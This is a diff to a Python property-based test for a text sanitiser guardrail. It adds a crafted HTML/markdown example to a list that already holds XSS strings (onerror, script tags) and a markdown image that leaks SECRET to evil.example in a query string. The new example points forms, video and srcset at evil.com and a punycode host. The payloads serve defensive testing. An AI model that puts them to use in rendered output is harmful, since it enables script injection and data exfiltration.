@@ -75,6 +75,13 @@ def assert_safe(text: str, settings_: GuardrailSettings) -> None:
 @example(text="![http://evil.example/p.png?d=SECRET](http://evil.example/p.png?d=SECRET)")
 @example(text="a\n<div>\n`<img src=x onerror=alert(1)>`")
 @example(text="<<x>script>alert(1)<</x>/script>")
+# removed comments leave a blank first line: the indented line after it is a code block,
+# so the backticks in it pair with nothing and the image after them renders
+@example(text="<!-- javascript:[::1] --><!-- ftp://@evil.com) -->\n    <b>a [b] c</b><i "
+              "onclick=x>y</i>`<form action=www.xn--80ak6aa92e.com/?u=evil.com><button formaction="
+              "www.xn--80ak6aa92e.com/?u=evil.com>go</button></form>\n<video poster=https:\\\\evil"
+              ".com#frag src=https:\\\\evil.com#frag></video> <img srcset='https:\\\\evil.com#frag"
+              " 2x, https:\\\\evil.com#frag 1x'> ![here](//ａｃｍｅ.example/)`")
 def test_the_cleaned_text_renders_only_allowed_links_and_no_script(text):
     assert_safe(text, STRIP)
 
